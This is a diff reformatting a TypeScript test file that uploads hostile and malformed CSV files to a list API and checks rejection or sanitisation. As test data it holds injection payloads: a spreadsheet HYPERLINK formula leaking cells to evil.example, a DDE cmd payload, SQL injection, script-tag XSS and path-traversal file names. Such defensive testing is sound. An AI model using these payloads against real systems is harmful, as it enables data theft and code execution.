@@ -3,8 +3,17 @@ import fs from 'node:fs/promises';
 import http from 'node:http';
 import path from 'node:path';
 import { beforeAll, describe, expect, inject, it } from 'vitest';
+
 import { adminApi, Api, baseUrl, createList, createWorkspace, uniqueName, type ApiResponse } from '../support/api';
-import { allContents, expectApiError, getBytes, uploadDirFiles, type Collection, type JobBody, type Row } from '../support/list-helpers';
+import {
+  allContents,
+  expectApiError,
+  getBytes,
+  uploadDirFiles,
+  type Collection,
+  type JobBody,
+  type Row,
+} from '../support/list-helpers';
 
 /**
  * A corpus of hostile and malformed files and requests, generated here (nothing big is committed).
@@ -27,8 +36,24 @@ const COLUMNS = [
 ];
 const HEADER = 'code,qty,price,flag,day,at,note';
 type Field = 'code' | 'qty' | 'price' | 'flag' | 'day' | 'at' | 'note';
-const DEFAULTS: Record<Field, string> = { code: 'X1', qty: '1', price: '1.5', flag: 'true', day: '2020-01-01', at: '2020-01-01T00:00:00Z', note: 'ok' };
-const STORED_DEFAULTS: Row = { code: 'X1', qty: 1, price: 1.5, flag: true, day: '2020-01-01', at: '2020-01-01T00:00:00.000Z', note: 'ok' };
+const DEFAULTS: Record<Field, string> = {
+  code: 'X1',
+  qty: '1',
+  price: '1.5',
+  flag: 'true',
+  day: '2020-01-01',
+  at: '2020-01-01T00:00:00Z',
+  note: 'ok',
+};
+const STORED_DEFAULTS: Row = {
+  code: 'X1',
+  qty: 1,
+  price: 1.5,
+  flag: true,
+  day: '2020-01-01',
+  at: '2020-01-01T00:00:00.000Z',
+  note: 'ok',
+};
 
 /** One CSV line: the defaults with some values replaced (given raw: quote them yourself). */
 function line(values: Partial<Record<Field, string>> = {}): string {
@@ -42,7 +67,9 @@ function stored(values: Row): Row {
   return { ...STORED_DEFAULTS, ...values };
 }
 function bytes(...parts: (string | number[] | Uint8Array)[]): Uint8Array {
-  return Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p as Uint8Array))));
+  return Buffer.concat(
+    parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p as Uint8Array))),
+  );
 }
 /** Deterministic pseudo-random bytes (a linear congruential generator), so a failure replays. */
 function noise(length: number, seed = 42): Uint8Array {
@@ -54,7 +81,10 @@ function noise(length: number, seed = 42): Uint8Array {
   }
   return out;
 }
-const PNG_HEADER = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x00, 0x08, 0x06, 0x00, 0x00, 0x00];
+const PNG_HEADER = [
+  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x01,
+  0x00, 0x00, 0x00, 0x01, 0x00, 0x08, 0x06, 0x00, 0x00, 0x00,
+];
 const PRELOADED: Row[] = [stored({ code: 'P1', note: 'before' }), stored({ code: 'P2', qty: 2, note: 'before' })];
 const PRELOAD_FILE = file(HEADER, line({ code: 'P1', note: 'before' }), line({ code: 'P2', qty: '2', note: 'before' }));
 
@@ -96,9 +126,19 @@ type RequestCase = {
 };
 type HostileCase = UploadCase | RequestCase;
 
-const validListBody = (ctx: Ctx, extra: Record<string, unknown> = {}) => ({ name: uniqueName('Hostile'), workspaceId: ctx.workspaceId, columns: [{ name: 'id', dataType: 'integer', isKey: true }], ...extra });
+const validListBody = (ctx: Ctx, extra: Record<string, unknown> = {}) => ({
+  name: uniqueName('Hostile'),
+  workspaceId: ctx.workspaceId,
+  columns: [{ name: 'id', dataType: 'integer', isKey: true }],
+  ...extra,
+});
 
-async function rawRequest(ctx: Ctx, method: string, urlPath: string, init: { body: BodyInit; contentType?: string }): Promise<ApiResponse> {
+async function rawRequest(
+  ctx: Ctx,
+  method: string,
+  urlPath: string,
+  init: { body: BodyInit; contentType?: string },
+): Promise<ApiResponse> {
   const response = await fetch(`${ctx.api.baseUrl}${urlPath}`, {
     method,
     headers: { 'x-auth-jwt': ctx.api.token!, ...(init.contentType && { 'content-type': init.contentType }) },
@@ -118,22 +158,40 @@ async function rawRequest(ctx: Ctx, method: string, urlPath: string, init: { bod
  * A chunked request through node:http, which (unlike fetch) still reads the answer when the server
  * answers before the whole body is sent and then closes the connection.
  */
-function chunkedRequest(ctx: Ctx, method: string, urlPath: string, contentType: string, chunks: string[]): Promise<ApiResponse> {
+function chunkedRequest(
+  ctx: Ctx,
+  method: string,
+  urlPath: string,
+  contentType: string,
+  chunks: string[],
+): Promise<ApiResponse> {
   return new Promise((resolve, reject) => {
-    const request = http.request(`${ctx.api.baseUrl}${urlPath}`, { method, headers: { 'x-auth-jwt': ctx.api.token!, 'content-type': contentType, 'transfer-encoding': 'chunked' } }, (response) => {
-      let text = '';
-      response.setEncoding('utf8');
-      response.on('data', (d: string) => (text += d));
-      response.on('end', () => {
-        let body: any = text;
-        try {
-          body = JSON.parse(text);
-        } catch {
-          // not JSON
-        }
-        resolve({ status: response.statusCode ?? 0, body, headers: new Headers(response.headers as Record<string, string>), text });
-      });
-    });
+    const request = http.request(
+      `${ctx.api.baseUrl}${urlPath}`,
+      {
+        method,
+        headers: { 'x-auth-jwt': ctx.api.token!, 'content-type': contentType, 'transfer-encoding': 'chunked' },
+      },
+      (response) => {
+        let text = '';
+        response.setEncoding('utf8');
+        response.on('data', (d: string) => (text += d));
+        response.on('end', () => {
+          let body: any = text;
+          try {
+            body = JSON.parse(text);
+          } catch {
+            // not JSON
+          }
+          resolve({
+            status: response.statusCode ?? 0,
+            body,
+            headers: new Headers(response.headers as Record<string, string>),
+            text,
+          });
+        });
+      },
+    );
     let answered = false;
     request.on('response', () => (answered = true));
     request.on('error', (error) => {
@@ -169,9 +227,14 @@ async function slowestHealthAnswer(durationMs: number): Promise<number> {
   return slowest;
 }
 
-function multipartBody(parts: { name: string; value: string; fileName?: string }[], boundary: string, close = true): string {
+function multipartBody(
+  parts: { name: string; value: string; fileName?: string }[],
+  boundary: string,
+  close = true,
+): string {
   const chunks = parts.map(
-    (p) => `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"${p.fileName ? `; filename="${p.fileName}"\r\nContent-Type: text/csv` : ''}\r\n\r\n${p.value}\r\n`,
+    (p) =>
+      `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"${p.fileName ? `; filename="${p.fileName}"\r\nContent-Type: text/csv` : ''}\r\n\r\n${p.value}\r\n`,
   );
   return chunks.join('') + (close ? `--${boundary}--\r\n` : '');
 }
@@ -180,46 +243,146 @@ const JSONL = '0.0.1-json-records';
 
 const CORPUS: HostileCase[] = [
   // ── quoting ───────────────────────────────────────────────────────────────────────────
-  { name: 'an unbalanced quote that is never closed', kind: 'upload', content: () => file(HEADER, line({ code: 'X1' }), line({ code: 'X2', note: '"never closed' }), line({ code: 'X3' })), outcome: { reject: /quote/i, remediation: /quote/i } },
-  { name: 'a quote in the middle of a quoted value ("ab"c)', kind: 'upload', content: () => file(HEADER, line({ code: 'X1', note: '"ab"c' }), line({ code: 'X2' })), outcome: { reject: /quote/i } },
-  { name: 'an unbalanced quote on an empty list (direct load path)', kind: 'upload', list: 'empty', content: () => file(HEADER, ...Array.from({ length: 500 }, (_, i) => line({ code: `K${i}` })), line({ code: 'X', note: 'a "b" c"' }), line({ code: '"Y' })), outcome: { reject: /quote|values, but the header/i } },
+  {
+    name: 'an unbalanced quote that is never closed',
+    kind: 'upload',
+    content: () =>
+      file(HEADER, line({ code: 'X1' }), line({ code: 'X2', note: '"never closed' }), line({ code: 'X3' })),
+    outcome: { reject: /quote/i, remediation: /quote/i },
+  },
+  {
+    name: 'a quote in the middle of a quoted value ("ab"c)',
+    kind: 'upload',
+    content: () => file(HEADER, line({ code: 'X1', note: '"ab"c' }), line({ code: 'X2' })),
+    outcome: { reject: /quote/i },
+  },
+  {
+    name: 'an unbalanced quote on an empty list (direct load path)',
+    kind: 'upload',
+    list: 'empty',
+    content: () =>
+      file(
+        HEADER,
+        ...Array.from({ length: 500 }, (_, i) => line({ code: `K${i}` })),
+        line({ code: 'X', note: 'a "b" c"' }),
+        line({ code: '"Y' }),
+      ),
+    outcome: { reject: /quote|values, but the header/i },
+  },
 
   // ── line endings ──────────────────────────────────────────────────────────────────────
-  { name: 'mixed line endings: a lone CR inside an unquoted value splits the record', kind: 'upload', content: () => file(HEADER, line({ code: 'X1', note: 'first\rhalf' })), outcome: { reject: /Row 3 has 1 value, but the header has 7 columns/ } },
+  {
+    name: 'mixed line endings: a lone CR inside an unquoted value splits the record',
+    kind: 'upload',
+    content: () => file(HEADER, line({ code: 'X1', note: 'first\rhalf' })),
+    outcome: { reject: /Row 3 has 1 value, but the header has 7 columns/ },
+  },
   {
     name: 'mixed CRLF / LF / CR line endings: the bad row is reported by its true row number',
     kind: 'upload',
-    content: () => `${HEADER}\r\n${line({ code: 'X1' })}\n${line({ code: 'X2' })}\r${line({ code: 'X3', day: '2020-02-31' })}\r\n`,
+    content: () =>
+      `${HEADER}\r\n${line({ code: 'X1' })}\n${line({ code: 'X2' })}\r${line({ code: 'X3', day: '2020-02-31' })}\r\n`,
     outcome: { reject: /^Row 4: "day" "2020-02-31" is not a real calendar date/ },
   },
 
   // ── NUL bytes and binary files named .csv ─────────────────────────────────────────────
-  { name: 'a NUL byte in the header', kind: 'upload', content: () => bytes('code,qty\0,price,flag,day,at,note\n', line(), '\n'), outcome: { reject: /binary|NUL/i, remediation: /CSV/ } },
+  {
+    name: 'a NUL byte in the header',
+    kind: 'upload',
+    content: () => bytes('code,qty\0,price,flag,day,at,note\n', line(), '\n'),
+    outcome: { reject: /binary|NUL/i, remediation: /CSV/ },
+  },
   {
     name: 'a NUL byte after 200 KB, on an empty list',
     kind: 'upload',
     list: 'empty',
-    content: () => bytes(HEADER, '\n', Array.from({ length: 4000 }, (_, i) => line({ code: `K${i}` })).join('\n'), '\n', line({ code: 'Z', note: 'a' }), [0], 'b\n'),
+    content: () =>
+      bytes(
+        HEADER,
+        '\n',
+        Array.from({ length: 4000 }, (_, i) => line({ code: `K${i}` })).join('\n'),
+        '\n',
+        line({ code: 'Z', note: 'a' }),
+        [0],
+        'b\n',
+      ),
     outcome: { reject: /NUL/ },
   },
-  { name: 'a PNG image named .csv', kind: 'upload', fileName: 'photo.csv', content: () => bytes(PNG_HEADER, noise(4000, 7)), outcome: { reject: /not a text file|binary/i, remediation: /CSV/ } },
-  { name: '64 KB of random bytes named .csv', kind: 'upload', fileName: 'random.csv', content: () => noise(64 * 1024), outcome: { reject: /not a text file|binary|UTF-8/i } },
-  { name: 'a PDF named .csv (no NUL early, high bytes)', kind: 'upload', fileName: 'report.csv', content: () => bytes('%PDF-1.7\n%', [0xe2, 0xe3, 0xcf, 0xd3], '\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'), outcome: { reject: /UTF-8|not a text file/i } },
+  {
+    name: 'a PNG image named .csv',
+    kind: 'upload',
+    fileName: 'photo.csv',
+    content: () => bytes(PNG_HEADER, noise(4000, 7)),
+    outcome: { reject: /not a text file|binary/i, remediation: /CSV/ },
+  },
+  {
+    name: '64 KB of random bytes named .csv',
+    kind: 'upload',
+    fileName: 'random.csv',
+    content: () => noise(64 * 1024),
+    outcome: { reject: /not a text file|binary|UTF-8/i },
+  },
+  {
+    name: 'a PDF named .csv (no NUL early, high bytes)',
+    kind: 'upload',
+    fileName: 'report.csv',
+    content: () => bytes('%PDF-1.7\n%', [0xe2, 0xe3, 0xcf, 0xd3], '\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
+    outcome: { reject: /UTF-8|not a text file/i },
+  },
 
   // ── encodings ─────────────────────────────────────────────────────────────────────────
-  { name: 'invalid UTF-8: a lone continuation byte', kind: 'upload', content: () => bytes(HEADER, '\n', line({ note: 'caf' }), [0x80], '\n'), outcome: { reject: /not valid UTF-8/, remediation: /UTF-8/ } },
-  { name: 'invalid UTF-8: an overlong "/" (C0 AF)', kind: 'upload', content: () => bytes(HEADER, '\n', line({ note: '..' }), [0xc0, 0xaf], 'etc\n'), outcome: { reject: /not valid UTF-8/ } },
-  { name: 'invalid UTF-8: an encoded surrogate (ED A0 80)', kind: 'upload', content: () => bytes(HEADER, '\n', line({ note: 'x' }), [0xed, 0xa0, 0x80], '\n'), outcome: { reject: /not valid UTF-8/ } },
-  { name: 'invalid UTF-8: a character cut off at the end of the file', kind: 'upload', content: () => bytes(HEADER, '\n', line({ note: 'euro ' }), [0xe2, 0x82]), outcome: { reject: /not valid UTF-8/ } },
+  {
+    name: 'invalid UTF-8: a lone continuation byte',
+    kind: 'upload',
+    content: () => bytes(HEADER, '\n', line({ note: 'caf' }), [0x80], '\n'),
+    outcome: { reject: /not valid UTF-8/, remediation: /UTF-8/ },
+  },
+  {
+    name: 'invalid UTF-8: an overlong "/" (C0 AF)',
+    kind: 'upload',
+    content: () => bytes(HEADER, '\n', line({ note: '..' }), [0xc0, 0xaf], 'etc\n'),
+    outcome: { reject: /not valid UTF-8/ },
+  },
+  {
+    name: 'invalid UTF-8: an encoded surrogate (ED A0 80)',
+    kind: 'upload',
+    content: () => bytes(HEADER, '\n', line({ note: 'x' }), [0xed, 0xa0, 0x80], '\n'),
+    outcome: { reject: /not valid UTF-8/ },
+  },
+  {
+    name: 'invalid UTF-8: a character cut off at the end of the file',
+    kind: 'upload',
+    content: () => bytes(HEADER, '\n', line({ note: 'euro ' }), [0xe2, 0x82]),
+    outcome: { reject: /not valid UTF-8/ },
+  },
   {
     name: 'invalid UTF-8 after 1 MB, on an empty list',
     kind: 'upload',
     list: 'empty',
-    content: () => bytes(HEADER, '\n', Array.from({ length: 20_000 }, (_, i) => line({ code: `K${i}` })).join('\n'), '\n', line({ code: 'Z', note: 'Z' }), [0xe9], 'rich\n'),
+    content: () =>
+      bytes(
+        HEADER,
+        '\n',
+        Array.from({ length: 20_000 }, (_, i) => line({ code: `K${i}` })).join('\n'),
+        '\n',
+        line({ code: 'Z', note: 'Z' }),
+        [0xe9],
+        'rich\n',
+      ),
     outcome: { reject: /not valid UTF-8/ },
   },
-  { name: 'UTF-16LE without a byte-order mark', kind: 'upload', content: () => Buffer.from(file(HEADER, line()), 'utf16le'), outcome: { reject: /UTF-16/, remediation: /UTF-8/ } },
-  { name: 'UTF-16BE without a byte-order mark', kind: 'upload', content: () => Buffer.from(file(HEADER, line()), 'utf16le').swap16(), outcome: { reject: /UTF-16/ } },
+  {
+    name: 'UTF-16LE without a byte-order mark',
+    kind: 'upload',
+    content: () => Buffer.from(file(HEADER, line()), 'utf16le'),
+    outcome: { reject: /UTF-16/, remediation: /UTF-8/ },
+  },
+  {
+    name: 'UTF-16BE without a byte-order mark',
+    kind: 'upload',
+    content: () => Buffer.from(file(HEADER, line()), 'utf16le').swap16(),
+    outcome: { reject: /UTF-16/ },
+  },
 
   // ── size and shape ────────────────────────────────────────────────────────────────────
   {
@@ -229,39 +392,88 @@ const CORPUS: HostileCase[] = [
     content: () => file(Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(','), line()),
     outcome: {
       reject: /header does not match/,
-      checkMessage: (message) => expect(message.length, 'a message a person can read, not 100,000 names').toBeLessThan(5_000),
+      checkMessage: (message) =>
+        expect(message.length, 'a message a person can read, not 100,000 names').toBeLessThan(5_000),
     },
   },
-  { name: '100,000 values in one record (a very long line)', kind: 'upload', content: () => file(HEADER, line(), 'X2' + ',1'.repeat(99_999)), outcome: { reject: /Row 3 has 100000 values, but the header has 7 columns/ } },
+  {
+    name: '100,000 values in one record (a very long line)',
+    kind: 'upload',
+    content: () => file(HEADER, line(), 'X2' + ',1'.repeat(99_999)),
+    outcome: { reject: /Row 3 has 100000 values, but the header has 7 columns/ },
+  },
   {
     name: 'a single 18 MB quoted field',
     kind: 'upload',
     content: () => `${HEADER}\n${line({ note: `"${'a'.repeat(18 * MiB)}"` })}\n`,
     outcome: { reject: /longer than 16/, remediation: /quote/ },
   },
-  { name: 'an 18 MB line without any delimiter or quote', kind: 'upload', content: () => `${HEADER}\n${'b'.repeat(18 * MiB)}\n`, outcome: { reject: /longer than 16|values, but the header/ } },
+  {
+    name: 'an 18 MB line without any delimiter or quote',
+    kind: 'upload',
+    content: () => `${HEADER}\n${'b'.repeat(18 * MiB)}\n`,
+    outcome: { reject: /longer than 16|values, but the header/ },
+  },
   { name: 'a header only, without a line end', kind: 'upload', content: () => HEADER, outcome: { loaded: [] } },
-  { name: 'an empty file', kind: 'upload', fileName: 'empty.csv', content: () => new Uint8Array(0), outcome: { reject: /empty/i } },
-  { name: 'a file that is only a UTF-8 byte-order mark', kind: 'upload', content: () => bytes([0xef, 0xbb, 0xbf]), outcome: { reject: /empty/i } },
-  { name: 'a file of blank lines only', kind: 'upload', content: () => '\n\n\n\n', outcome: { reject: /empty|header does not match/i } },
+  {
+    name: 'an empty file',
+    kind: 'upload',
+    fileName: 'empty.csv',
+    content: () => new Uint8Array(0),
+    outcome: { reject: /empty/i },
+  },
+  {
+    name: 'a file that is only a UTF-8 byte-order mark',
+    kind: 'upload',
+    content: () => bytes([0xef, 0xbb, 0xbf]),
+    outcome: { reject: /empty/i },
+  },
+  {
+    name: 'a file of blank lines only',
+    kind: 'upload',
+    content: () => '\n\n\n\n',
+    outcome: { reject: /empty|header does not match/i },
+  },
 
   // ── headers ───────────────────────────────────────────────────────────────────────────
-  { name: 'duplicate header names', kind: 'upload', content: () => file('code,qty,price,flag,day,at,code', line()), outcome: { reject: /"code" more than once/, remediation: /unique/ } },
+  {
+    name: 'duplicate header names',
+    kind: 'upload',
+    content: () => file('code,qty,price,flag,day,at,code', line()),
+    outcome: { reject: /"code" more than once/, remediation: /unique/ },
+  },
   {
     name: 'a header that is SQL',
     kind: 'upload',
     content: () => file(`code,qty,price,flag,day,at,"note""; DROP TABLE users; --"`, line()),
-    outcome: { reject: /header does not match/, checkMessage: (message) => expect(message).toContain('note"; DROP TABLE users; --') },
+    outcome: {
+      reject: /header does not match/,
+      checkMessage: (message) => expect(message).toContain('note"; DROP TABLE users; --'),
+    },
   },
   {
     name: 'a header that is HTML/JS',
     kind: 'upload',
     content: () => file(`code,qty,price,flag,day,at,<script>alert(document.cookie)</script>`, line()),
-    outcome: { reject: /header does not match/, checkMessage: (message) => expect(message).toContain('<script>alert(document.cookie)</script>') },
+    outcome: {
+      reject: /header does not match/,
+      checkMessage: (message) => expect(message).toContain('<script>alert(document.cookie)</script>'),
+    },
   },
-  { name: 'an invisible zero-width space inside a header name', kind: 'upload', content: () => file('co\u200Bde,qty,price,flag,day,at,note', line()), outcome: { reject: /header does not match/ } },
+  {
+    name: 'an invisible zero-width space inside a header name',
+    kind: 'upload',
+    content: () => file('co\u200Bde,qty,price,flag,day,at,note', line()),
+    outcome: { reject: /header does not match/ },
+  },
   // The decoder drops the first mark and the header's trimming the second: a harmless reading.
-  { name: 'two byte-order marks before the header', kind: 'upload', list: 'empty', content: () => file('\uFEFF\uFEFF' + HEADER, line()), outcome: { loaded: [stored({})] } },
+  {
+    name: 'two byte-order marks before the header',
+    kind: 'upload',
+    list: 'empty',
+    content: () => file('\uFEFF\uFEFF' + HEADER, line()),
+    outcome: { loaded: [stored({})] },
+  },
 
   // ── dangerous-looking values that are legitimate text ─────────────────────────────────
   {
@@ -271,7 +483,7 @@ const CORPUS: HostileCase[] = [
       file(
         HEADER,
         line({ code: 'F1', note: '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' }),
-        line({ code: '"=1+2"', note: '+cmd|\' /C calc\'!A0' }),
+        line({ code: '"=1+2"', note: "+cmd|' /C calc'!A0" }),
         line({ code: 'F3', note: '-2+3' }),
         line({ code: 'F4', note: '@SUM(A1:A9)' }),
         line({ code: 'F5', note: '"\t=1+2"' }),
@@ -295,7 +507,8 @@ const CORPUS: HostileCase[] = [
         expect(text).toContain(`'@SUM(A1:A9)`);
         expect(text).toContain(`'\t=1+2`);
         // No cell of the export starts with a formula character.
-        for (const cell of text.replace(/^\uFEFF/, '').split(/\r\n|,/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
+        for (const cell of text.replace(/^\uFEFF/, '').split(/\r\n|,/))
+          expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
       },
     },
   },
@@ -324,16 +537,28 @@ const CORPUS: HostileCase[] = [
     list: 'empty',
     fileName: '..\\..\\Windows\\win.ini',
     content: () => file(HEADER, line({ code: 'T2' })),
-    outcome: { loaded: [stored({ code: 'T2' })], checkLoaded: async (_ctx, job) => expect(job.fileName).toBe('win.ini') },
+    outcome: {
+      loaded: [stored({ code: 'T2' })],
+      checkLoaded: async (_ctx, job) => expect(job.fileName).toBe('win.ini'),
+    },
   },
-  { name: 'a control character in the file name', kind: 'upload', fileName: 'a\u0001b.csv', content: () => file(HEADER, line()), outcome: { status: 400, message: /malformed/ } },
+  {
+    name: 'a control character in the file name',
+    kind: 'upload',
+    fileName: 'a\u0001b.csv',
+    content: () => file(HEADER, line()),
+    outcome: { status: 400, message: /malformed/ },
+  },
   {
     name: 'a 1,000-character file name',
     kind: 'upload',
     list: 'empty',
     fileName: `${'n'.repeat(1000)}.csv`,
     content: () => file(HEADER, line({ code: 'T3' })),
-    outcome: { loaded: [stored({ code: 'T3' })], checkLoaded: async (_ctx, job) => expect(job.fileName!.length).toBeLessThanOrEqual(255) },
+    outcome: {
+      loaded: [stored({ code: 'T3' })],
+      checkLoaded: async (_ctx, job) => expect(job.fileName!.length).toBeLessThanOrEqual(255),
+    },
   },
   {
     name: 'a right-to-left override in the file name (invoice\u202Egnp.csv shows as "invoicevsc.png")',
@@ -341,17 +566,32 @@ const CORPUS: HostileCase[] = [
     list: 'empty',
     fileName: 'invoice\u202Egnp.csv',
     content: () => file(HEADER, line({ code: 'T4' })),
-    outcome: { loaded: [stored({ code: 'T4' })], checkLoaded: async (_ctx, job) => expect(job.fileName).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F]/) },
+    outcome: {
+      loaded: [stored({ code: 'T4' })],
+      checkLoaded: async (_ctx, job) => expect(job.fileName).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F]/),
+    },
   },
   {
     name: 'unicode normalisation: NFC and NFD keys stay two records, code points exact',
     kind: 'upload',
     list: 'empty',
-    content: () => file(HEADER, line({ code: 'Caf\u00e9', note: 'NFC' }), line({ code: 'Cafe\u0301', note: 'NFD' }), line({ code: '\uFB01le', note: 'ligature' })),
+    content: () =>
+      file(
+        HEADER,
+        line({ code: 'Caf\u00e9', note: 'NFC' }),
+        line({ code: 'Cafe\u0301', note: 'NFD' }),
+        line({ code: '\uFB01le', note: 'ligature' }),
+      ),
     outcome: {
-      loaded: [stored({ code: 'Caf\u00e9', note: 'NFC' }), stored({ code: 'Cafe\u0301', note: 'NFD' }), stored({ code: '\uFB01le', note: 'ligature' })],
+      loaded: [
+        stored({ code: 'Caf\u00e9', note: 'NFC' }),
+        stored({ code: 'Cafe\u0301', note: 'NFD' }),
+        stored({ code: '\uFB01le', note: 'ligature' }),
+      ],
       checkLoaded: async (ctx) => {
-        const nfc = await ctx.api.get<Collection<Row>>(`/api/v1/lists/${ctx.list.id}/contents?filter=${encodeURIComponent("eq(code,'Caf\u00e9')")}`);
+        const nfc = await ctx.api.get<Collection<Row>>(
+          `/api/v1/lists/${ctx.list.id}/contents?filter=${encodeURIComponent("eq(code,'Caf\u00e9')")}`,
+        );
         expect(nfc.body.items.map((r) => r.note)).toEqual(['NFC']);
       },
     },
@@ -360,51 +600,181 @@ const CORPUS: HostileCase[] = [
     name: 'RTL text and a right-to-left override in keys',
     kind: 'upload',
     list: 'empty',
-    content: () => file(HEADER, line({ code: '\u05e9\u05dc\u05d5\u05dd', note: 'hebrew' }), line({ code: '\u0645\u0631\u062d\u0628\u0627 123', note: 'arabic' }), line({ code: 'invoice\u202Efdp.exe', note: 'override' })),
+    content: () =>
+      file(
+        HEADER,
+        line({ code: '\u05e9\u05dc\u05d5\u05dd', note: 'hebrew' }),
+        line({ code: '\u0645\u0631\u062d\u0628\u0627 123', note: 'arabic' }),
+        line({ code: 'invoice\u202Efdp.exe', note: 'override' }),
+      ),
     outcome: {
-      loaded: [stored({ code: '\u05e9\u05dc\u05d5\u05dd', note: 'hebrew' }), stored({ code: '\u0645\u0631\u062d\u0628\u0627 123', note: 'arabic' }), stored({ code: 'invoice\u202Efdp.exe', note: 'override' })],
+      loaded: [
+        stored({ code: '\u05e9\u05dc\u05d5\u05dd', note: 'hebrew' }),
+        stored({ code: '\u0645\u0631\u062d\u0628\u0627 123', note: 'arabic' }),
+        stored({ code: 'invoice\u202Efdp.exe', note: 'override' }),
+      ],
     },
   },
-  { name: 'SQL in values', kind: 'upload', list: 'empty', content: () => file(HEADER, line({ code: `"x'); DROP TABLE lists; --"`, note: "1' OR '1'='1" })), outcome: { loaded: [stored({ code: "x'); DROP TABLE lists; --", note: "1' OR '1'='1" })] } },
-  { name: 'HTML/JS in values', kind: 'upload', list: 'empty', content: () => file(HEADER, line({ code: '<img src=x onerror=alert(1)>', note: '<script>alert(1)</script>' })), outcome: { loaded: [stored({ code: '<img src=x onerror=alert(1)>', note: '<script>alert(1)</script>' })] } },
-  { name: 'terminal escape sequences and control characters in values', kind: 'upload', list: 'empty', content: () => file(HEADER, line({ code: 'E1', note: '\u001b[31mred\u001b[0m\u0007\u0008\u007f' })), outcome: { loaded: [stored({ code: 'E1', note: '\u001b[31mred\u001b[0m\u0007\u0008\u007f' })] } },
+  {
+    name: 'SQL in values',
+    kind: 'upload',
+    list: 'empty',
+    content: () => file(HEADER, line({ code: `"x'); DROP TABLE lists; --"`, note: "1' OR '1'='1" })),
+    outcome: { loaded: [stored({ code: "x'); DROP TABLE lists; --", note: "1' OR '1'='1" })] },
+  },
+  {
+    name: 'HTML/JS in values',
+    kind: 'upload',
+    list: 'empty',
+    content: () => file(HEADER, line({ code: '<img src=x onerror=alert(1)>', note: '<script>alert(1)</script>' })),
+    outcome: { loaded: [stored({ code: '<img src=x onerror=alert(1)>', note: '<script>alert(1)</script>' })] },
+  },
+  {
+    name: 'terminal escape sequences and control characters in values',
+    kind: 'upload',
+    list: 'empty',
+    content: () => file(HEADER, line({ code: 'E1', note: '\u001b[31mred\u001b[0m\u0007\u0008\u007f' })),
+    outcome: { loaded: [stored({ code: 'E1', note: '\u001b[31mred\u001b[0m\u0007\u0008\u007f' })] },
+  },
 
   // ── numbers ───────────────────────────────────────────────────────────────────────────
-  { name: 'integer overflow: 2^63', kind: 'upload', content: () => file(HEADER, line({ qty: '9223372036854775808' })), outcome: { reject: /"qty" "9223372036854775808" is too large/, remediation: /9223372036854775807/ } },
-  { name: 'integer underflow: -2^63 - 1', kind: 'upload', content: () => file(HEADER, line({ qty: '-9223372036854775809' })), outcome: { reject: /is too large/ } },
+  {
+    name: 'integer overflow: 2^63',
+    kind: 'upload',
+    content: () => file(HEADER, line({ qty: '9223372036854775808' })),
+    outcome: { reject: /"qty" "9223372036854775808" is too large/, remediation: /9223372036854775807/ },
+  },
+  {
+    name: 'integer underflow: -2^63 - 1',
+    kind: 'upload',
+    content: () => file(HEADER, line({ qty: '-9223372036854775809' })),
+    outcome: { reject: /is too large/ },
+  },
   {
     name: 'the largest integers (±2^63) load exactly, without float rounding',
     kind: 'upload',
     list: 'empty',
-    content: () => file(HEADER, line({ code: 'MAX', qty: '9223372036854775807' }), line({ code: 'MIN', qty: '-9223372036854775808' }), line({ code: 'SAFE', qty: '9007199254740993' })),
-    outcome: { loaded: [stored({ code: 'MAX', qty: '9223372036854775807' }), stored({ code: 'MIN', qty: '-9223372036854775808' }), stored({ code: 'SAFE', qty: '9007199254740993' })] },
+    content: () =>
+      file(
+        HEADER,
+        line({ code: 'MAX', qty: '9223372036854775807' }),
+        line({ code: 'MIN', qty: '-9223372036854775808' }),
+        line({ code: 'SAFE', qty: '9007199254740993' }),
+      ),
+    outcome: {
+      loaded: [
+        stored({ code: 'MAX', qty: '9223372036854775807' }),
+        stored({ code: 'MIN', qty: '-9223372036854775808' }),
+        stored({ code: 'SAFE', qty: '9007199254740993' }),
+      ],
+    },
   },
-  { name: 'number overflow: 1e999999', kind: 'upload', content: () => file(HEADER, line({ price: '1e999999' })), outcome: { reject: /"price" "1e999999" is out of range/ } },
-  { name: 'NaN and Infinity as numbers', kind: 'upload', content: () => file(HEADER, line({ code: 'N1', price: 'NaN' }), line({ code: 'N2', price: 'Infinity' }), line({ code: 'N3', price: '-Infinity' })), outcome: { reject: /"price" "NaN" is not a number/ } },
-  { name: 'a 400-digit number loads exactly', kind: 'upload', list: 'empty', content: () => file(HEADER, line({ price: '9'.repeat(400) + '.5' })), outcome: { loaded: [stored({ price: '9'.repeat(400) + '.5' })] } },
-  { name: 'negative zero', kind: 'upload', list: 'empty', content: () => file(HEADER, line({ qty: '-0', price: '-0.0' })), outcome: { loaded: [stored({ qty: 0, price: 0 })] } },
+  {
+    name: 'number overflow: 1e999999',
+    kind: 'upload',
+    content: () => file(HEADER, line({ price: '1e999999' })),
+    outcome: { reject: /"price" "1e999999" is out of range/ },
+  },
+  {
+    name: 'NaN and Infinity as numbers',
+    kind: 'upload',
+    content: () =>
+      file(
+        HEADER,
+        line({ code: 'N1', price: 'NaN' }),
+        line({ code: 'N2', price: 'Infinity' }),
+        line({ code: 'N3', price: '-Infinity' }),
+      ),
+    outcome: { reject: /"price" "NaN" is not a number/ },
+  },
+  {
+    name: 'a 400-digit number loads exactly',
+    kind: 'upload',
+    list: 'empty',
+    content: () => file(HEADER, line({ price: '9'.repeat(400) + '.5' })),
